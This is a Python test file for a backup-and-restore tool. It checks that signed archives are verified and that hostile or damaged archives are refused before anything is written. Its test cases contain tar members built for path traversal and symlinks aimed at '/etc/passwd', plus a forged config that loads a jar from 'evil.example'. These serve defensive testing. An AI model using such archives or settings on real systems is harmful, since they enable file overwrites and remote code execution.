"""Archives of homes: their content, and archives that are damaged, foreign, or hostile."""

from __future__ import annotations

import io
import shutil
import stat
import struct
import tarfile
import tempfile
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from medusa.overlay.errors import (
    ConflictError,
    InvalidInputError,
    MedusaError,
    NotFoundError,
    StorageFullError,
)
from medusa.tools.commands.peer.archive import VERSION, Manifest, extract, sealed
from medusa.tools.commands.peer.backup import backup, restore
from medusa.tools.home.folder import Home
from medusa.tools.home.founding import make_peer


def quiet(_: int) -> None:
    """Show no progress."""


@pytest.fixture
def home(tmp_path: Path) -> Home:
    place = Home(tmp_path / "home")
    make_peer(place, "mit.edu", "cluster")
    (place.data / "schemas").mkdir()
    (place.data / "schemas" / "a.json").write_bytes(b"{}" * 5000)
    return place


def test_a_home_that_does_not_run(home: Home, tmp_path: Path) -> None:
    file, keys = tmp_path / "b", tmp_path / "k"
    done = backup(home, file, keys, quiet)
    assert {stat.S_IMODE(path.stat().st_mode) for path in (file, keys)} == {0o600}
    assert "data/schemas/a.json" in done.files
    assert not any("key" in name or "token" in name for name in done.files)
    secret = home.client_token()
    assert secret not in file.read_bytes()
    with pytest.raises(ConflictError, match="is there already"):
        backup(home, file, None, quiet)
    backup(home, tmp_path / "b2", keys, quiet)  # the same keys
    (tmp_path / "k2").write_bytes(keys.read_bytes().replace(b"peer.key", b"root.key"))
    with pytest.raises(MedusaError, match="k2"):
        backup(home, tmp_path / "b3", tmp_path / "k2", quiet)
    assert not (tmp_path / "b3").exists()
    shutil.rmtree(home.folder)
    with pytest.raises(NotFoundError, match="say --keys"):
        restore(file, home, None, quiet)
    restore(file, home, keys, quiet)
    assert home.client_token() == secret
    assert (home.data / "schemas" / "a.json").read_bytes() == b"{}" * 5000
    assert (home.data / "restored.json").exists()


def test_keys_of_another_peer(home: Home, tmp_path: Path) -> None:
    backup(home, tmp_path / "b", None, quiet)
    other = Home(tmp_path / "other")
    make_peer(other, "utah.edu", "cluster")
    backup(other, tmp_path / "b2", tmp_path / "k", quiet)
    with pytest.raises(InvalidInputError, match="not signed with these keys"):
        restore(tmp_path / "b", Home(tmp_path / "new"), tmp_path / "k", quiet)
    assert not (tmp_path / "new").exists()
    assert not list(tmp_path.glob(".*restoring"))


KEY = Ed25519PrivateKey.generate()


def body(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    """Return an archive that `backup` would never write."""
    with tempfile.NamedTemporaryFile() as written:
        with (
            pa.CompressedOutputStream(written.name, "zstd") as stream,
            tarfile.open(fileobj=stream, mode="w|") as tar,
        ):
            for info, content in members:
                info.size = len(content)
                tar.addfile(info, io.BytesIO(content))
        return Path(written.name).read_bytes()


def signed(data: bytes, files: dict[str, bytes], key: Ed25519PrivateKey = KEY) -> bytes:
    """Return the archive with a manifest of these files."""
    listed = {name: (len(held), sha256(held).hexdigest()) for name, held in files.items()}
    about = ("mit.edu", "00" * 20, 0.0, "/home", None, ())
    manifest = Manifest(VERSION, *about, listed, sha256(data).hexdigest())
    return data + sealed(manifest, key)


def named(name: str, **more: Any) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    for key, value in more.items():
        setattr(info, key, value)
    return info, b"" if more else b"content"


@pytest.mark.parametrize(
    ("members", "reason"),
    [
        ([named("../outside")], "a home has no such file"),
        ([named("/etc/passwd")], "a home has no such file"),
        ([named("data/../../outside")], "a home has no such file"),
        ([named("peer.key")], "a home has no such file"),
        ([named(".bashrc")], "a home has no such file"),
        ([named("data//x")], "a home has no such file"),
        ([named("data/link", type=tarfile.SYMTYPE, linkname="/etc/passwd")], "no plain file"),
        ([named("data/link", type=tarfile.LNKTYPE, linkname="../../x")], "no plain file"),
        ([named("data/pipe", type=tarfile.FIFOTYPE)], "no plain file"),
        ([named("data/device", type=tarfile.CHRTYPE)], "no plain file"),
        ([named("data/" + "n" * 2000)], "name is too long"),
        ([named("data/x"), named("data/x")], "twice"),
    ],
)
def test_archives_that_no_peer_of_ours_wrote(
    tmp_path: Path, members: list[tuple[tarfile.TarInfo, bytes]], reason: str
) -> None:
    path = tmp_path / "hostile"
    path.write_bytes(signed(body(*members), {info.name: held for info, held in members}))
    with pytest.raises(MedusaError, match=reason):
        extract(path, tmp_path / "into", KEY.public_key(), quiet)
    inside = [p for p in tmp_path.rglob("*") if p.is_file() and p != path]
    assert all(p.is_relative_to(tmp_path / "into") for p in inside)


ZEROS = b"\0" * 2**20


@pytest.mark.parametrize(
    ("files", "reason"),
    [
        ({}, "its manifest does not have it"),
        ({"data/x": ZEROS, "data/y": b""}, "'data/y'"),
        ({"data/x": ZEROS[1:]}, "1048576 bytes, and its manifest says 1048575"),
        ({"data/x": ZEROS[1:] + b"1"}, "'data/x'"),
    ],
)
def test_files_missing_from_the_manifest_are_not_unpacked(
    tmp_path: Path, files: dict[str, bytes], reason: str
) -> None:
    path = tmp_path / "b"
    path.write_bytes(signed(body((tarfile.TarInfo("data/x"), ZEROS)), files))
    with pytest.raises(InvalidInputError, match=reason):
        extract(path, tmp_path / "into", KEY.public_key(), quiet)
    written = [p for p in (tmp_path / "into").rglob("*") if p.is_file()]
    assert not written or len(files.get("data/x", b"")) == len(ZEROS)


def test_more_than_the_disk_has_is_not_unpacked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "b"
    path.write_bytes(signed(body((tarfile.TarInfo("data/x"), ZEROS)), {"data/x": ZEROS}))
    monkeypatch.setattr(shutil, "disk_usage", lambda _: shutil._ntuple_diskusage(1, 1, 2**20 - 1))
    with pytest.raises(StorageFullError, match="1048576 bytes, and 1048575 are free"):
        extract(path, tmp_path / "into", KEY.public_key(), quiet)
    assert not [p for p in (tmp_path / "into").rglob("*") if p.is_file()]


def changed_settings(data: bytes, _key: Ed25519PrivateKey) -> bytes:
    """Return the archive with other settings, as an attacker with the file alone can make it: with
    the checksums of its content, and with a signature by the attacker's own key."""
    settings = b'[spark]\n"spark.jars" = "http://evil.example/run.jar"\n'
    forged = body((tarfile.TarInfo("medusa.toml"), settings))
    return signed(forged, {"medusa.toml": settings}, Ed25519PrivateKey.generate())


def old_manifest(data: bytes, _key: Ed25519PrivateKey) -> bytes:
    """Return the archive with other content and the peer's own signature."""
    forged = body((tarfile.TarInfo("medusa.toml"), b"changed"))
    start = data.rindex(sealed_mark(data))
    return forged + data[start:]


def sealed_mark(data: bytes) -> bytes:
    (length,) = struct.unpack("<I", data[-4:])
    return data[-(length + 64 + 4 + 8) :][:8]


def another_signature(data: bytes, _key: Ed25519PrivateKey) -> bytes:
    return data[:-5] + bytes([data[-5] ^ 1]) + data[-4:]


@pytest.mark.parametrize("forge", [changed_settings, old_manifest, another_signature])
def test_a_changed_archive_is_refused_before_anything_is_written(
    home: Home,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    forge: Callable[[bytes, Ed25519PrivateKey], bytes],
) -> None:
    file, keys, new = tmp_path / "b", tmp_path / "k", Home(tmp_path / "new")
    backup(home, file, keys, quiet)
    file.write_bytes(forge(file.read_bytes(), KEY))

    def never(*_: object, **__: object) -> None:
        raise AssertionError("it writes nothing, and unpacks nothing")

    monkeypatch.setattr(Path, "mkdir", never)
    monkeypatch.setattr(pa, "CompressedInputStream", never)
    with pytest.raises(InvalidInputError, match=r"not signed with these keys|damaged"):
        restore(file, new, keys, quiet)
    assert not new.folder.exists()


def test_readers_of_zstd_skip_the_manifest(home: Home, tmp_path: Path) -> None:
    file = tmp_path / "b"
    done = backup(home, file, None, quiet)
    with (
        pa.CompressedInputStream(str(file), "zstd") as stream,
        tarfile.open(fileobj=stream, mode="r|") as tar,
    ):
        assert {member.name for member in tar} == set(done.files)


@pytest.mark.parametrize(
    "damage",
    [
        lambda data: data[: len(data) // 2],
        lambda data: data[:-1],
        lambda data: data[: len(data) // 2] + b"\0" + data[len(data) // 2 + 1 :],
        lambda _: b"no archive at all",
        lambda _: b"",
    ],
)
def test_damaged_archives(home: Home, tmp_path: Path, damage: Callable[[bytes], bytes]) -> None:
    file, keys, new = tmp_path / "b", tmp_path / "k", Home(tmp_path / "new")
    backup(home, file, keys, quiet)
    file.write_bytes(damage(file.read_bytes()))
    with pytest.raises(InvalidInputError, match=str(file)):
        restore(file, new, keys, quiet)
    assert not new.folder.exists()
